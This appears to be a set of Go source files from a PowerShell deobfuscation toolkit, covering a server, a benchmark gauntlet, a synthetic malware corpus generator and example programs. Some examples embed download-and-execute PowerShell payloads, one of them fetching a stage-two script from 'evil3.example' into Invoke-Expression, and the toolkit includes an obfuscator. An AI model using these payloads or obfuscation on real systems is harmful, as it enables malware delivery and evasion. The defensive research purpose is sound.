	go io.Copy(io.Discard, pr)

	resp, err := http.Get("http://" + addr + "/statsz")
	if err != nil {
		t.Fatal(err)
	}
	var stats struct {
		Workers    int `json:"workers"`
		QueueDepth int `json:"queue_depth"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&stats); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if stats.Workers != 3 {
		t.Errorf("workers = %d, want 3", stats.Workers)
	}
	if stats.QueueDepth != 0 {
		t.Errorf("queue_depth = %d, want 0 (-queue 0 must mean no queue, not the default)", stats.QueueDepth)
	}
	cancel()
	if err := <-runErr; err != nil {
		t.Fatalf("run returned %v, want nil (stderr: %s)", err, stderr.String())
	}
}

// TestRunCacheSnapshotLifecycle runs the binary lifecycle twice against
// one -cache-snapshot file: the first life serves a request and drains
// (writing the snapshot), the second life boots warm and reports it on
// /statsz.
func TestRunCacheSnapshotLifecycle(t *testing.T) {
	snap := filepath.Join(t.TempDir(), "caches.snap")

	// startServer runs one life of the binary and returns its base URL
	// plus a shutdown func that cancels and waits for the drain.
	startServer := func() (string, func()) {
		ctx, cancel := context.WithCancel(context.Background())
		pr, pw := io.Pipe()
		runErr := make(chan error, 1)
		var stderr syncBuffer
		go func() {
			runErr <- run(ctx, []string{"-addr", "127.0.0.1:0", "-cache-snapshot", snap, "-drain-timeout", "5s"}, pw, &stderr)
			pw.Close()
		}()
		sc := bufio.NewScanner(pr)
		if !sc.Scan() {
			t.Fatalf("no listen line; run returned: %v (stderr: %s)", <-runErr, stderr.String())
		}
		addr := strings.TrimPrefix(sc.Text(), "deobserver listening on ")
		go io.Copy(io.Discard, pr)
		stop := func() {
			cancel()
			select {
			case err := <-runErr:
				if err != nil {
					t.Fatalf("run returned %v on shutdown (stderr: %s)", err, stderr.String())
				}
			case <-time.After(10 * time.Second):
				t.Fatal("run did not return within 10s of cancellation")
			}
		}
		return "http://" + addr, stop
	}
	postScript := func(base string) {
		body := `{"script":"Write-Host ('snap' + 'shot')"}`
		resp, err := http.Post(base+"/v1/deobfuscate", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("deobfuscate = %d", resp.StatusCode)
		}
	}
	snapshotStats := func(base string) (loaded bool, warmed, warmHits float64) {
		resp, err := http.Get(base + "/statsz")
		if err != nil {
			t.Fatal(err)
		}
		var stats struct {
			ParseCache struct {
				WarmHits float64 `json:"warm_hits"`
			} `json:"parse_cache"`
			Snapshot *struct {
				Loaded          bool    `json:"loaded"`
				LoadParseWarmed float64 `json:"load_parse_warmed"`
			} `json:"snapshot"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&stats); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if stats.Snapshot == nil {
			t.Fatal("statsz has no snapshot section despite -cache-snapshot")
		}
		return stats.Snapshot.Loaded, stats.Snapshot.LoadParseWarmed, stats.ParseCache.WarmHits
	}

	// First life: cold, serve, drain (saves the snapshot).
	base, stop := startServer()
	if loaded, _, _ := snapshotStats(base); loaded {
		t.Error("first life reports a loaded snapshot before one exists")
	}
	postScript(base)
	stop()
	if _, err := os.Stat(snap); err != nil {
		t.Fatalf("drain did not write -cache-snapshot file: %v", err)
	}

	// Second life: warm boot, same traffic hits warm entries.
	base, stop = startServer()
	defer stop()
	loaded, warmed, _ := snapshotStats(base)
	if !loaded || warmed == 0 {
		t.Fatalf("second life not warm: loaded=%t warmed=%v", loaded, warmed)
	}
	postScript(base)
	if _, _, warmHits := snapshotStats(base); warmHits == 0 {
		t.Error("replayed traffic produced no warm hits")
	}
}
