// Command deobserver runs the deobfuscation engine as an HTTP service.
//
// Usage:
//
//	deobserver [-addr :8713] [-workers N] [-queue N] [-timeout 30s] ...
//
// Endpoints:
//
//	POST /v1/deobfuscate  {"script": "..."}            one script
//	POST /v1/batch        {"scripts": [{"script":..}]} many scripts
//	GET  /healthz                                      liveness + drain state
//	GET  /statsz                                       aggregated serving stats
//
// Overload resilience: -quota-rps/-quota-burst/-quota-buckets enable
// per-tenant token-bucket quotas keyed by the X-Api-Key header
// (429 ErrQuota with an honest Retry-After), and -heavy-cost /
// -shed-highwater tune cost-aware shedding (predicted-heavy requests
// answered 503 ErrShed once the admission window passes the high-water
// mark, so light traffic keeps flowing).
//
// Warm restarts: -cache-snapshot FILE loads the shared parse/eval
// caches from FILE at startup (a missing or corrupt file just means a
// cold start) and saves them back on graceful drain and every
// -snapshot-interval, so a redeploy resumes with a warm cache instead
// of re-parsing the whole working set.
//
// The listen address is printed to stdout as "deobserver listening on
// ADDR" once the socket is bound, so -addr 127.0.0.1:0 (ephemeral
// port) is scriptable. On SIGINT/SIGTERM the server drains: new
// requests get 503, in-flight requests complete (bounded by
// -drain-timeout), then the process exits 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/server"
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := run(ctx, os.Args[1:], os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "deobserver:", err)
		os.Exit(1)
	}
}

// run binds the listener, serves until ctx is canceled (signal), then
// drains and shuts down. Factored from main so tests can drive the
// full lifecycle with a cancelable context instead of process signals.
func run(ctx context.Context, args []string, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("deobserver", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		addr         = fs.String("addr", ":8713", "listen address (host:port; port 0 picks an ephemeral port)")
		workers      = fs.Int("workers", 0, "concurrent engine workers (0 = GOMAXPROCS)")
		queue        = fs.Int("queue", 64, "admitted requests that may wait for a worker before 429")
		timeout      = fs.Duration("timeout", 30*time.Second, "default per-request processing deadline")
		maxTimeout   = fs.Duration("max-timeout", 2*time.Minute, "cap on the client-requested "+server.TimeoutHeader+" deadline")
		maxBody      = fs.Int64("max-body", 8<<20, "request body byte limit")
		maxScript    = fs.Int("max-script", 1<<20, "per-script byte limit")
		maxBatch     = fs.Int("max-batch", 64, "scripts per /v1/batch request")
		drainTimeout = fs.Duration("drain-timeout", 30*time.Second, "how long shutdown waits for in-flight requests")
		jobs         = fs.Int("jobs", 0, "per-batch engine workers (0 = GOMAXPROCS)")
		pieceWorkers = fs.Int("piece-workers", 0, "piece-evaluation workers per script (0 = GOMAXPROCS, 1 = sequential); outputs are identical at any setting")
		scriptTO     = fs.Duration("script-timeout", 0, "per-script deadline inside /v1/batch (0 = request deadline only)")
		noEvalCache  = fs.Bool("no-eval-cache", false, "disable the shared evaluation cache")
		quotaRate    = fs.Float64("quota-rps", 0, "per-tenant quota in requests/second, keyed by "+server.APIKeyHeader+" (0 = quotas off)")
		quotaBurst   = fs.Float64("quota-burst", 0, "per-tenant token-bucket burst (0 = max(quota-rps, 1))")
		quotaBuckets = fs.Int("quota-buckets", 1024, "max tenant buckets tracked at once (LRU eviction beyond)")
		heavyCost    = fs.Float64("heavy-cost", 32768, "cost-estimate score at which a request is classified heavy (effective bytes)")
		shedHW       = fs.Float64("shed-highwater", 0.75, "admission-window occupancy fraction above which heavy requests are shed (negative = shedding off)")
		snapPath     = fs.String("cache-snapshot", "", "warm-restart snapshot file: load caches from it at startup, save on drain and periodically (empty = off)")
		snapInterval = fs.Duration("snapshot-interval", 5*time.Minute, "periodic cache-snapshot cadence (<=0 = drain-time save only)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	cfg := server.Config{
		Workers:          *workers,
		QueueDepth:       *queue,
		DefaultTimeout:   *timeout,
		MaxTimeout:       *maxTimeout,
		MaxBodyBytes:     *maxBody,
		MaxScriptBytes:   *maxScript,
		MaxBatchScripts:  *maxBatch,
		QuotaRate:        *quotaRate,
		QuotaBurst:       *quotaBurst,
		QuotaMaxBuckets:  *quotaBuckets,
		HeavyCost:        *heavyCost,
		ShedHighWater:    *shedHW,
		SnapshotPath:     *snapPath,
		SnapshotInterval: *snapInterval,
		Engine: core.Options{
			Jobs:             *jobs,
			PieceWorkers:     *pieceWorkers,
			ScriptTimeout:    *scriptTO,
			DisableEvalCache: *noEvalCache,
		},
	}
	if *queue == 0 {
		cfg.QueueDepth = -1 // flag 0 means "no queue", Config 0 means default
	}
	if *snapInterval <= 0 {
		cfg.SnapshotInterval = -1 // flag <=0 means "drain-time save only", Config 0 means default
	}

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	srv := server.New(cfg)
	httpSrv := &http.Server{
		Handler:           srv.Handler(),
		ReadHeaderTimeout: 10 * time.Second,
	}
	fmt.Fprintf(stdout, "deobserver listening on %s\n", ln.Addr())

	serveErr := make(chan error, 1)
	go func() { serveErr <- httpSrv.Serve(ln) }()

	select {
	case err := <-serveErr:
		return err
	case <-ctx.Done():
	}

	// Graceful drain: refuse new work first (503 + Retry-After via the
	// server's draining flag, visible on /healthz for load balancers),
	// let in-flight requests finish, then close the listener.
	fmt.Fprintln(stdout, "deobserver draining")
	drainCtx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := srv.Drain(drainCtx); err != nil {
		fmt.Fprintf(stderr, "deobserver: drain incomplete: %v\n", err)
	}
	if err := httpSrv.Shutdown(drainCtx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
		return err
	}
	<-serveErr // Serve has returned http.ErrServerClosed
	fmt.Fprintln(stdout, "deobserver stopped")
	return nil
}
