// Command gauntlet runs the profile-based obfuscation gauntlet: clean
// corpus × obfuscation profiles × wrapper depths, each cell obfuscated,
// deobfuscated, scored for residual obfuscation and verified for
// behavioral equivalence in the sandbox. It writes the machine-readable
// gap report and exits non-zero when the run falls below the frozen
// baseline (pass rate and mean residual delta), so recovery-coverage
// regressions fail the build.
//
// Usage:
//
//	gauntlet [-seed 7] [-n 24] [-profiles safe,light,...] [-max-depth 3]
//	         [-timeout 10s] [-jobs N] [-worst 3] [-o GAUNTLET.json]
//	         [-min-pass-rate 0.95] [-max-residual 2.0] [-list] [-q]
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/gauntlet"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

func main() {
	if err := run(os.Args[1:], os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "gauntlet:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("gauntlet", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		seed     = fs.Int64("seed", 7, "corpus and stack-draw seed (deterministic run)")
		n        = fs.Int("n", 24, "clean corpus size")
		profs    = fs.String("profiles", "", "comma-separated profile names (default: all)")
		maxDepth = fs.Int("max-depth", 3, "wrapper-depth cap")
		timeout  = fs.Duration("timeout", 10*time.Second, "per-deobfuscation and per-sandbox envelope")
		jobs     = fs.Int("jobs", 0, "concurrent cases (0 = GOMAXPROCS)")
		worst    = fs.Int("worst", 3, "worst offending scripts kept verbatim in the report")
		out      = fs.String("o", "GAUNTLET.json", "report output path (- for stdout)")
		minPass  = fs.Float64("min-pass-rate", gauntlet.FrozenPassRate, "pass-rate floor; below it the exit code is non-zero")
		maxResid = fs.Float64("max-residual", gauntlet.FrozenMeanResidualDelta, "mean residual-delta ceiling")
		list     = fs.Bool("list", false, "list profiles and exit")
		quiet    = fs.Bool("q", false, "suppress the summary table")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *list {
		for _, p := range obfuscate.Profiles() {
			fmt.Fprintf(stdout, "%-10s depth<=%d  %s\n", p.Name, p.MaxDepth, p.Description)
		}
		return nil
	}
	cfg := gauntlet.Config{
		Seed:           *seed,
		Samples:        *n,
		MaxDepth:       *maxDepth,
		Timeout:        *timeout,
		Jobs:           *jobs,
		WorstOffenders: *worst,
	}
	if *profs != "" {
		for _, name := range strings.Split(*profs, ",") {
			if name = strings.TrimSpace(name); name != "" {
				cfg.Profiles = append(cfg.Profiles, name)
			}
		}
	}
	rep, err := gauntlet.Run(context.Background(), cfg)
	if err != nil {
		return err
	}
	ok := rep.Evaluate(*minPass, *maxResid)

	if !*quiet {
		printSummary(stdout, rep)
	}
	if err := writeReport(stdout, *out, rep); err != nil {
		return err
	}
	if !ok {
		return fmt.Errorf("gate failed: pass rate %.3f (floor %.3f), mean residual delta %.2f (ceiling %.2f)",
			rep.PassRate, rep.BaselinePassRate, rep.MeanResidualDelta, rep.BaselineMaxResidual)
	}
	return nil
}

func printSummary(w io.Writer, rep *gauntlet.Report) {
	fmt.Fprintf(w, "gauntlet: seed=%d samples=%d max-depth=%d cases=%d elapsed=%dms\n",
		rep.Seed, rep.Samples, rep.MaxDepth, rep.TotalCases, rep.ElapsedMS)
	fmt.Fprintf(w, "%-10s %6s %6s %6s %6s %6s %6s %9s %9s\n",
		"profile", "cases", "pass", "deob!", "diverg", "obfdiv", "skip", "passrate", "residual")
	for _, ps := range rep.Profiles {
		fmt.Fprintf(w, "%-10s %6d %6d %6d %6d %6d %6d %8.1f%% %9.2f\n",
			ps.Profile, ps.Cases, ps.Passes, ps.DeobErrors, ps.Diverged, ps.ObfDiverged, ps.ObfSkipped,
			100*ps.PassRate, ps.MeanResidualDelta)
	}
	fmt.Fprintf(w, "overall: pass rate %.1f%%, mean residual delta %.2f\n",
		100*rep.PassRate, rep.MeanResidualDelta)
	for _, off := range rep.WorstOffenders {
		fmt.Fprintf(w, "worst: %s/%s depth=%d %s residual+%d %s\n",
			off.Sample, off.Profile, off.Depth, off.Outcome, off.ResidualDelta, clip(off.Detail))
	}
}

func clip(s string) string {
	if len(s) > 120 {
		return s[:120] + "..."
	}
	return s
}

func writeReport(stdout io.Writer, path string, rep *gauntlet.Report) error {
	data, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	if path == "-" {
		_, err = stdout.Write(data)
		return err
	}
	return os.WriteFile(path, data, 0o644)
}
