package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/gauntlet"
)

func TestRunSmokeWritesReport(t *testing.T) {
	out := filepath.Join(t.TempDir(), "report.json")
	var stdout, stderr bytes.Buffer
	err := run([]string{"-n", "3", "-max-depth", "1", "-profiles", "safe,light", "-o", out, "-q"}, &stdout, &stderr)
	if err != nil {
		t.Fatalf("run: %v (stderr: %s)", err, stderr.String())
	}
	var rep gauntlet.Report
	data, rerr := os.ReadFile(out)
	if rerr != nil {
		t.Fatalf("read report: %v", rerr)
	}
	if jerr := json.Unmarshal(data, &rep); jerr != nil {
		t.Fatalf("report is not valid JSON: %v", jerr)
	}
	if rep.TotalCases == 0 {
		t.Error("report has no cases")
	}
	if !rep.Pass {
		t.Errorf("smoke grid below baseline: pass rate %.3f, mean residual %.2f", rep.PassRate, rep.MeanResidualDelta)
	}
}

func TestRunGateFailure(t *testing.T) {
	var stdout, stderr bytes.Buffer
	err := run([]string{"-n", "2", "-max-depth", "1", "-profiles", "safe", "-min-pass-rate", "1.01", "-o", "-", "-q"}, &stdout, &stderr)
	if err == nil || !strings.Contains(err.Error(), "gate failed") {
		t.Fatalf("run with impossible floor: err = %v, want gate failure", err)
	}
	// The report must still have been written so the failure is diagnosable.
	if !strings.Contains(stdout.String(), "\"pass\": false") {
		t.Error("failing run did not emit the report")
	}
}

func TestRunList(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run([]string{"-list"}, &stdout, &stderr); err != nil {
		t.Fatalf("run -list: %v", err)
	}
	for _, name := range []string{"safe", "light", "balanced", "heavy", "paranoid"} {
		if !strings.Contains(stdout.String(), name) {
			t.Errorf("-list output missing profile %s", name)
		}
	}
}

func TestRunUnknownProfile(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run([]string{"-profiles", "bogus", "-n", "1"}, &stdout, &stderr); err == nil {
		t.Error("run with unknown profile succeeded, want error")
	}
}
