package invokedeob

import (
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
)

// CorpusSample is one generated wild-like malicious script with ground
// truth, produced by GenerateCorpus (the paper's dataset substitute,
// DESIGN.md §3).
type CorpusSample struct {
	// ID is a stable identifier.
	ID string
	// Source is the obfuscated script.
	Source string
	// Original is the clean script before obfuscation.
	Original string
	// Family is the behaviour shape (downloader, dropper, beacon, ...).
	Family string
	// Techniques is the applied obfuscation stack in order.
	Techniques []string
	// Layers counts wrapper layers; >= 2 means multi-layer.
	Layers int
	// HasNetwork reports whether the clean script touches the network.
	HasNetwork bool
	// IOCs is ground-truth key information from the clean script.
	IOCs *IOCs
}

// GenerateCorpus deterministically generates n wild-like obfuscated
// samples with ground truth. The same seed always yields the same
// corpus.
func GenerateCorpus(seed int64, n int) []CorpusSample {
	samples := corpus.Generate(corpus.Config{Seed: seed, N: n})
	out := make([]CorpusSample, 0, len(samples))
	for _, s := range samples {
		techniques := make([]string, len(s.Techniques))
		for i, t := range s.Techniques {
			techniques[i] = string(t)
		}
		out = append(out, CorpusSample{
			ID:         s.ID,
			Source:     s.Source,
			Original:   s.Original,
			Family:     string(s.Family),
			Techniques: techniques,
			Layers:     s.Layers,
			HasNetwork: s.HasNetwork,
			IOCs: &IOCs{
				Ps1Files:           s.KeyInfo.Ps1,
				PowerShellCommands: s.KeyInfo.PowerShell,
				URLs:               s.KeyInfo.URLs,
				IPs:                s.KeyInfo.IPs,
			},
		})
	}
	return out
}
