// Quickstart: deobfuscate a multi-layer obfuscated PowerShell script
// with the default engine and inspect what the engine did.
package main

import (
	"fmt"
	"log"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

// obfuscated is the paper's running example style: string reordering
// piped to IEX, Base64-encoded URL reassembled through variables, and a
// download wrapped in L1 randomization.
const obfuscated = "\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h' | IeX\n" +
	"$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
	".($pshome[4]+$pshome[30]+'x') (nEw-oBjEct nET.wEbcLiEnT).DoWNlOaDsTrIng($sdfs)\n"

func main() {
	fmt.Println("--- obfuscated input ---")
	fmt.Print(obfuscated)

	res, err := invokedeob.Deobfuscate(obfuscated, nil)
	if err != nil {
		log.Fatalf("deobfuscate: %v", err)
	}

	fmt.Println("\n--- deobfuscated output ---")
	fmt.Println(res.Script)

	s := res.Stats
	fmt.Println("--- what the engine did ---")
	fmt.Printf("tokens normalized:   %d (aliases, random case, ticks)\n", s.TokensNormalized)
	fmt.Printf("pieces recovered:    %d of %d attempted\n", s.PiecesRecovered, s.PiecesAttempted)
	fmt.Printf("variables traced:    %d (inlined %d reads)\n", s.VariablesTraced, s.VariablesInlined)
	fmt.Printf("layers unwrapped:    %d\n", s.LayersUnwrapped)
	fmt.Printf("identifiers renamed: %d\n", s.IdentifiersRenamed)
	fmt.Printf("iterations:          %d in %s\n", s.Iterations, s.Duration)

	fmt.Println("\n--- extracted IOCs ---")
	for _, url := range invokedeob.ExtractIOCs(res.Script).URLs {
		fmt.Println("url:", url)
	}

	fmt.Println("\n--- semantics check ---")
	fmt.Println("network behavior preserved:",
		invokedeob.BehaviorConsistent(obfuscated, res.Script))
}
