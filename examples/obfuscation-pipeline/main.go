// Obfuscation-pipeline: round-trip every Table II technique on a
// payload — obfuscate, measure the obfuscation score, deobfuscate,
// verify the payload comes back and the score drops.
package main

import (
	"fmt"
	"strings"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

const payload = "$u = 'https://evil3.example/stage2.ps1'\n" +
	"(New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"

func main() {
	fmt.Println("payload:")
	fmt.Println(payload)
	fmt.Println()
	fmt.Printf("%-20s %-6s %-7s %-7s %s\n", "technique", "level", "score", "after", "recovered")
	fmt.Println(strings.Repeat("-", 64))

	for _, tech := range invokedeob.Techniques() {
		obf, err := invokedeob.Obfuscate(payload, tech, 7)
		if err != nil {
			fmt.Printf("%-20s L%-5d (not applicable)\n", tech, invokedeob.TechniqueLevel(tech))
			continue
		}
		res, err := invokedeob.Deobfuscate(obf, nil)
		if err != nil {
			fmt.Printf("%-20s L%-5d deobfuscation error: %v\n", tech, invokedeob.TechniqueLevel(tech), err)
			continue
		}
		recovered := strings.Contains(strings.ToLower(res.Script), "evil3.example/stage2.ps1")
		fmt.Printf("%-20s L%-5d %-7d %-7d %v\n",
			tech,
			invokedeob.TechniqueLevel(tech),
			invokedeob.ObfuscationScore(obf),
			invokedeob.ObfuscationScore(res.Script),
			recovered)
	}

	fmt.Println("\nmulti-layer stack (concat -> random-case -> bxor -> base64):")
	stacked, applied, err := invokedeob.ObfuscateStack(payload,
		[]string{"concat", "random-case", "encode-bxor", "encode-base64"}, 11)
	if err != nil {
		fmt.Println("stack error:", err)
		return
	}
	fmt.Printf("applied: %s\n", strings.Join(applied, " -> "))
	fmt.Printf("obfuscated size: %d bytes, score %d\n", len(stacked), invokedeob.ObfuscationScore(stacked))
	res, err := invokedeob.Deobfuscate(stacked, nil)
	if err != nil {
		fmt.Println("deobfuscation error:", err)
		return
	}
	fmt.Printf("deobfuscated (%d layers unwrapped):\n%s\n", res.Stats.LayersUnwrapped, res.Script)
}
