// Casestudy walks the paper's Fig. 7 example through the three phases
// separately, showing each phase's contribution exactly as the paper's
// case study does: (a) the obfuscated script, (b) token parsing,
// (c) recovery based on AST with variable tracing, and (d) renaming
// and reformatting.
package main

import (
	"fmt"
	"log"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

// The paper's Fig. 7(a) case: L1 ticking/alias/random case on the first
// line, string reordering invoked by iex, a Base64 URL split across
// randomly named variables, and an L1-obfuscated downloader.
const caseScript = "I`eX (\"{2}{0}{1}\"   -f 'ost h', 'ello', 'write-h')\n" +
	"$xdjmd   =    'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
	".($psHoME[4]+$PSHOME[30]+'x') ( NeW-oBJeCt Net.WebClient).downloadstring($sdfs)\n"

func phase(title, script string, opts *invokedeob.Options) string {
	res, err := invokedeob.Deobfuscate(script, opts)
	if err != nil {
		log.Fatalf("%s: %v", title, err)
	}
	fmt.Printf("--- %s ---\n%s\n\n", title, res.Script)
	return res.Script
}

func main() {
	fmt.Printf("--- (a) obfuscated script ---\n%s\n\n", caseScript)

	// (b) Token parsing only: aliases expanded, ticks removed, case
	// canonicalized. AST recovery, renaming and reformatting off.
	phase("(b) token parsing", caseScript, &invokedeob.Options{
		DisableASTPhase: true,
		DisableRename:   true,
		DisableReformat: true,
	})

	// (c) Token parsing + AST recovery with variable tracing: the
	// format-reorder is executed, the Base64 URL is recovered through
	// the traced variables, and the iex layer is unwrapped.
	phase("(c) recovery based on AST", caseScript, &invokedeob.Options{
		DisableRename:   true,
		DisableReformat: true,
	})

	// (d) The full pipeline: random names become var{N} and whitespace
	// is normalized — the paper's final Fig. 7(d) output.
	final := phase("(d) renaming and reformatting", caseScript, nil)

	fmt.Println("--- semantics check (Table IV criterion) ---")
	fmt.Println("network behavior preserved:", invokedeob.BehaviorConsistent(caseScript, final))
	before := invokedeob.ObfuscationScore(caseScript)
	after := invokedeob.ObfuscationScore(final)
	fmt.Printf("obfuscation score: %d -> %d\n", before, after)
}
