// Package invokedeob is a Go implementation of Invoke-Deobfuscation,
// the AST-based and semantics-preserving deobfuscator for PowerShell
// scripts (Chai et al., DSN 2022), together with the full toolchain the
// paper's evaluation requires: a PowerShell tokenizer/parser/AST, a
// bounded interpreter, an Invoke-Obfuscation-style obfuscator, an
// obfuscation-technique detector and scorer, IOC extraction, and a
// behavioural sandbox.
//
// The deobfuscator runs three phases:
//
//  1. Token parsing — lexical recovery of ticking, random case,
//     aliases and random whitespace.
//  2. Recovery based on AST — recoverable AST nodes are evaluated
//     under variable tracing and replaced in place; multi-layer
//     Invoke-Expression / powershell -EncodedCommand wrappers are
//     unwrapped to a fixpoint.
//  3. Rename and reformat — statistically random identifiers become
//     var{N}/func{N} and whitespace is normalized.
//
// Quick start:
//
//	res, err := invokedeob.Deobfuscate(script, nil)
//	if err != nil { ... }
//	fmt.Println(res.Script)
package invokedeob

import (
	"context"
	"fmt"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// Options configures deobfuscation. The zero value (or nil) selects the
// paper's defaults: all phases on, ten fixpoint iterations, the
// built-in command blocklist.
type Options struct {
	// Lang names the language frontend ("powershell", "javascript", or
	// an alias like "ps1"/"js"). Empty auto-detects per script; unknown
	// names fail with ErrBadLang.
	Lang string
	// MaxIterations bounds the multi-layer fixpoint loop (default 10).
	MaxIterations int
	// StepBudget bounds interpreter work per recoverable piece
	// (default 500k).
	StepBudget int
	// DisableTokenPhase turns off phase 1.
	DisableTokenPhase bool
	// DisableASTPhase turns off phase 2.
	DisableASTPhase bool
	// DisableVariableTracing turns off the symbol table, reducing
	// recovery to context-free direct execution.
	DisableVariableTracing bool
	// DisableRename turns off identifier renaming.
	DisableRename bool
	// DisableReformat turns off whitespace normalization.
	DisableReformat bool
	// Blocklist overrides the irrelevant-command blocklist (lower-cased
	// command names).
	Blocklist map[string]bool
	// FunctionTracing enables the extension beyond the paper (§V-C
	// future work): recovery through pure user-defined decoder
	// functions. Off by default.
	FunctionTracing bool
	// MaxAllocBytes bounds the memory one recoverable piece may
	// allocate in the embedded interpreter (default 64 MiB).
	MaxAllocBytes int64
	// MaxOutputBytes bounds the total bytes produced across all
	// unwrapped layers in one run (default 64 MiB).
	MaxOutputBytes int
	// DisableEvalCache turns off evaluation memoization: every
	// recoverable piece is interpreted from scratch even when an
	// identical (text, visible-bindings) pair was evaluated before.
	// The cache is semantically gated — only pure, deterministic
	// evaluations are memoized — so this switch affects performance
	// only; outputs are byte-identical either way.
	DisableEvalCache bool
	// Jobs bounds DeobfuscateBatch worker-pool concurrency (default
	// GOMAXPROCS). Ignored outside batch runs.
	Jobs int
	// PieceWorkers bounds the per-run worker pool that evaluates
	// independent recoverable pieces concurrently inside the AST phase
	// (default GOMAXPROCS; 1 disables the pool). Outputs do not depend
	// on the worker count. In batch runs the effective value is clamped
	// so jobs × piece-workers stays within GOMAXPROCS.
	PieceWorkers int
	// DisableSplice turns off batched subtree splicing with incremental
	// reparse, falling back to a full re-render and reparse per
	// replacement batch. Performance-only; outputs are byte-identical
	// either way.
	DisableSplice bool
	// ScriptTimeout, when positive, gives each script in a
	// DeobfuscateBatch its own wall-clock deadline, so one pathological
	// script cannot starve its siblings. Ignored outside batch runs.
	ScriptTimeout time.Duration
}

func (o *Options) toCore() core.Options {
	if o == nil {
		return core.Options{}
	}
	return core.Options{
		Lang:                   o.Lang,
		MaxIterations:          o.MaxIterations,
		StepBudget:             o.StepBudget,
		DisableTokenPhase:      o.DisableTokenPhase,
		DisableASTPhase:        o.DisableASTPhase,
		DisableVariableTracing: o.DisableVariableTracing,
		DisableRename:          o.DisableRename,
		DisableReformat:        o.DisableReformat,
		Blocklist:              o.Blocklist,
		FunctionTracing:        o.FunctionTracing,
		MaxAllocBytes:          o.MaxAllocBytes,
		MaxOutputBytes:         o.MaxOutputBytes,
		DisableEvalCache:       o.DisableEvalCache,
		Jobs:                   o.Jobs,
		PieceWorkers:           o.PieceWorkers,
		DisableSplice:          o.DisableSplice,
		ScriptTimeout:          o.ScriptTimeout,
	}
}

// Stats describes the work one deobfuscation performed.
type Stats struct {
	TokensNormalized   int
	PiecesAttempted    int
	PiecesRecovered    int
	VariablesTraced    int
	VariablesInlined   int
	LayersUnwrapped    int
	IdentifiersRenamed int
	Iterations         int
	Duration           time.Duration
	// PiecesTimedOut counts pieces cut off by the deadline or
	// cancelation.
	PiecesTimedOut int
	// PiecesPanicked counts pieces whose evaluation hit an internal
	// panic converted to an error at an isolation barrier.
	PiecesPanicked int
	// PiecesOverBudget counts pieces that exhausted the interpreter
	// memory budget.
	PiecesOverBudget int
	// TimedOut reports that the run was interrupted by the envelope and
	// the Result holds partial progress.
	TimedOut bool
	// EvalCacheHits counts piece evaluations answered from the
	// evaluation cache (interpreter runs skipped entirely).
	EvalCacheHits int64
	// EvalCacheMisses counts piece evaluations that ran the interpreter
	// and whose pure result was cached for future lookups.
	EvalCacheMisses int64
	// EvalCacheSkips counts piece evaluations that ran but were not
	// cacheable (impure, failed, or holding uncopyable values).
	EvalCacheSkips int64
	// PiecesParallel counts pieces evaluated off the walk goroutine by
	// the piece worker pool (0 when PieceWorkers is 1).
	PiecesParallel int
	// SplicesApplied counts replacement batches applied as incremental
	// document splices; SpliceFallbacks counts batches that fell back
